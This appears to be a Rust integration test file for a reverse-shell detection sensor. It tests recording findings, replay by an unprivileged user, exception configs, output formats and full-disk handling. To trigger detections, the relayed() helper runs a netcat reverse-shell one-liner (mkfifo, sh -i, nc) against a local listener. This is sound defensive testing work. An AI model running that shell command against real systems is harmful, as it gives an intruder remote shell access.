//! What is recorded as root is judged the same again by anybody, and differently under other exceptions.

use std::{
    fs::{self, File},
    os::unix::fs::PermissionsExt,
    path::{Path, PathBuf},
    process::Command,
};

use anyhow::{Context, Result, ensure};
use sensor_tests::{
    deadline::wait_for,
    finding::Finding,
    peer::{Ends, Listener, V4},
    process::command,
    sensor::{Sensor, binary},
    suite::{Alone, Format},
    takeover::Takeover,
    tools,
};
use tempfile::TempDir;

use super::{
    command_line::{all, output, sensor},
    privileges::{Copy, NOBODY},
};

/// A sensor that records into a new file.
fn recording(dir: &TempDir) -> Result<(Sensor, PathBuf)> {
    let path = dir.path().join("recording.jsonl");
    let mut command = command(binary()?);
    command.args(["record", "--format", "json"]).arg(&path);
    let sensor = Sensor::start_unread(command)?;
    sensor.read()?;
    Ok((sensor, path))
}

/// A reverse shell from its begin to the finding's end.
fn direct(sensor: &Sensor) -> Result<Ends> {
    let mut takeover = Takeover::start()?;
    let ends = takeover.ends();
    takeover.peer().id()?;
    takeover.end()?;
    sensor.wait_line("the end of a shell", 0, |line| line.has(ends) && line.has_ended())?;
    Ok(ends)
}

/// A shell whose bytes a netcat carries, likewise.
fn relayed(sensor: &Sensor, dir: &TempDir) -> Result<Ends> {
    let listener = Listener::tcp(V4)?;
    let mut bash = command(tools::find("bash")?);
    let mut bash = bash
        .args(["-c", "mkfifo f; cat f | sh -i 2>&1 | nc.openbsd 127.0.0.1 $P >f"])
        .env("P", listener.port()?.to_string())
        .current_dir(dir.path())
        .spawn()?;
    let mut peer = listener.accept()?;
    let ends = peer.ends();
    peer.id()?;
    sensor.wait_line("the finding of a relayed shell", 0, |line| line.has(ends))?;
    peer.send("exit\n")?;
    drop(peer);
    bash.wait()?;
    sensor.wait_line("its end", 0, |line| line.has(ends) && line.has_ended())?;
    Ok(ends)
}

/// Everything that the sensor has written.
fn written(sensor: &Sensor) -> Vec<u8> {
    sensor.lines(0, |lines| {
        let lines = lines.iter().flat_map(|line| line.raw.iter().chain(b"\n"));
        lines.copied().collect()
    })
}

/// Replays a recording, and gives what is reported.
fn replay(recording: &Path, options: &[&str]) -> Result<Vec<u8>> {
    let output = output(
        command(binary()?)
            .args(["replay", "--format", "json"])
            .arg(recording)
            .args(options),
    )?;
    ensure!(
        output.status.success(),
        "it ends with {}: {}",
        output.status,
        all(&output)
    );
    Ok(output.stdout)
}

fn speaks_of(lines: &[u8], ends: Ends) -> Result<bool> {
    for line in lines.split(|&byte| byte == b'\n').filter(|line| !line.is_empty()) {
        if Finding::parse(line)?.has(ends) {
            return Ok(true);
        }
    }
    Ok(false)
}

fn replayed_by_nobody() -> Result<()> {
    let dir = tempfile::tempdir()?;
    let (sensor, path) = recording(&dir)?;
    let takeovers = [direct(&sensor)?, relayed(&sensor, &dir)?];
    // One is open when the sensor stops.
    let open = Takeover::start()?;
    let ends = open.ends();
    sensor.wait_line("the finding of an open shell", 0, |line| line.has(ends))?;
    sensor.stop()?;
    open.end()?;
    let live = written(&sensor);

    let mode = fs::metadata(&path)?.permissions().mode() & 0o777;
    ensure!(mode == 0o600, "others may do {mode:o} with the recording");
    let copy = Copy::new()?;
    let mut nobody = copy.command(NOBODY, &["replay", "--format", "json", "-"])?;
    let output = output(nobody.stdin(File::open(&path)?))?;
    ensure!(
        output.status.success(),
        "it ends with {}: {}",
        output.status,
        all(&output)
    );
    ensure!(
        output.stdout == live,
        "live it was:\n{}replayed it is:\n{}",
        String::from_utf8_lossy(&live),
        String::from_utf8_lossy(&output.stdout)
    );
    ensure!(
        !String::from_utf8_lossy(&output.stderr).contains("WARN"),
        "it warns: {}",
        all(&output)
    );

    let config = dir.path().join("config.toml");
    fs::write(
        &config,
        "[[exception]]\nid = \"test\"\nreason = \"What root does to itself.\"\nuser = \"root\"\npeer = \"127.0.0.0/8\"\n",
    )?;
    let excepted = replay(&path, &["--config", config.to_str().context("an odd path")?])?;
    for ends in takeovers.into_iter().chain([ends]) {
        ensure!(speaks_of(&live, ends)?, "{ends:?} was not reported");
        ensure!(
            !speaks_of(&excepted, ends)?,
            "{ends:?} is reported in spite of the exception"
        );
    }
    Ok(())
}

/// Who asks for less gets less, and who asks for people's words gets these.
fn replayed_with_other_options() -> Result<()> {
    let dir = tempfile::tempdir()?;
    let (sensor, path) = recording(&dir)?;
    let shell = direct(&sensor)?;
    sensor.stop()?;
    let severe = replay(&path, &["--min-severity", "critical"])?;
    ensure!(speaks_of(&severe, shell)?, "a reverse shell is not critical any more");
    let human = output(command(binary()?).args(["replay", "--format", "human"]).arg(&path))?;
    let text = String::from_utf8_lossy(&human.stdout);
    ensure!(
        text.contains("CRITICAL ENDED reverse shell") && text.contains(&shell.peer.to_string()),
        "not for people: {text}"
    );
    Ok(())
}

/// Everything that the sensor reports, here and in the recordings that are kept, passes the official parser of each format.
fn replayed_in_every_format() -> Result<()> {
    let dir = tempfile::tempdir()?;
    let (sensor, path) = recording(&dir)?;
    direct(&sensor)?;
    relayed(&sensor, &dir)?;
    sensor.stop()?;
    let kept = Path::new(env!("CARGO_MANIFEST_DIR")).join("../sensor-daemon/tests/recordings");
    let mut recordings = vec![path];
    for entry in fs::read_dir(&kept)? {
        recordings.push(entry?.path());
    }
    recordings.retain(|path| path.extension().is_some_and(|extension| extension == "jsonl"));
    ensure!(recordings.len() > 2, "no recordings in {}", kept.display());
    for format in Format::ALL {
        let mut lines = Vec::new();
        for recording in &recordings {
            let replay = ["replay", "--min-severity", "low", "--format", format.name()];
            let output = output(command(binary()?).args(replay).arg(recording))?;
            ensure!(output.status.success(), "{format:?}: {}", all(&output));
            lines.extend(output.stdout);
        }
        let text = lines.trim_ascii_end();
        let count = text.split(|&byte| byte == b'\n').count();
        ensure!(count >= 2 * recordings.len(), "{format:?}: only {count} lines");
        let file = dir.path().join(format.name());
        fs::write(&file, text)?;
        format.parse_officially(&file, count)?;
    }
    Ok(())
}

/// No other file is overwritten; what is no recording is refused with its line.
fn refuses() -> Result<()> {
    let dir = tempfile::tempdir()?;
    let path = dir.path().join("kept");
    fs::write(&path, "precious\n")?;
    let name = path.to_str().context("an odd path")?;
    for (arguments, hint) in [
        (["record", name], "must not exist"),
        (["replay", name], "kept:1: this is no recording"),
        (["replay", "/nonexistent/recording"], "No such file"),
    ] {
        let output = sensor(&arguments)?;
        let said = String::from_utf8_lossy(&output.stderr);
        ensure!(
            output.status.code() == Some(1) && output.stdout.is_empty() && said.contains(hint),
            "{arguments:?} ends with {}: {}",
            output.status,
            all(&output)
        );
    }
    ensure!(fs::read(&path)? == b"precious\n", "the file is overwritten");
    Ok(())
}

/// On a disk that is full, the recording ends and the sensor goes on.
fn full_disk() -> Result<()> {
    let dir = tempfile::tempdir()?;
    let path = dir.path().join("recording.jsonl");
    let mut unshare: Command = command(tools::find("unshare")?);
    unshare
        .args([
            "--mount",
            "sh",
            "-c",
            "mount -t tmpfs -o size=256k small \"$1\" && exec \"$2\" record --format json \"$3\"",
            "sh",
        ])
        .arg(dir.path())
        .arg(binary()?)
        .arg(&path);
    let sensor = Sensor::start_unread(unshare)?;
    sensor.read()?;
    let full = || {
        let said = sensor.diagnostics();
        Ok(said
            .iter()
            .any(|line| line.contains("can't be written to any more"))
            .then_some(()))
    };
    let mut takeover = Takeover::start()?;
    let ends = takeover.ends();
    sensor.wait_line("its finding", 0, |line| line.has(ends))?;
    wait_for("a full disk", || {
        for _ in 0..20 {
            takeover.peer().id()?;
        }
        full()
    })?;
    let part = fs::read(format!("/proc/{}/root{}", sensor.pid(), path.display()))?;
    takeover.peer().id()?;
    takeover.end()?;
    sensor.wait_line("the end of the shell", 0, |line| line.has(ends) && line.has_ended())?;
    sensor.fence()?;
    sensor.stop()?;
    let said = sensor.diagnostics();
    let times = said.iter().filter(|line| line.contains("can't be written to")).count();
    ensure!(times == 1, "it says {times} times that the disk is full: {said:?}");

    // It is torn, and good until there.
    let torn = dir.path().join("torn");
    fs::write(&torn, part)?;
    let replayed = replay(&torn, &[])?;
    ensure!(
        speaks_of(&replayed, ends)?,
        "the shell is missing from what was recorded of it"
    );
    Ok(())
}

pub fn cases() -> Vec<Alone> {
    vec![
        ("record::replayed_by_nobody", replayed_by_nobody),
        ("record::replayed_with_other_options", replayed_with_other_options),
        ("record::replayed_in_every_format", replayed_in_every_format),
        ("record::refuses", refuses),
        ("record::full_disk", full_disk),
    ]
}
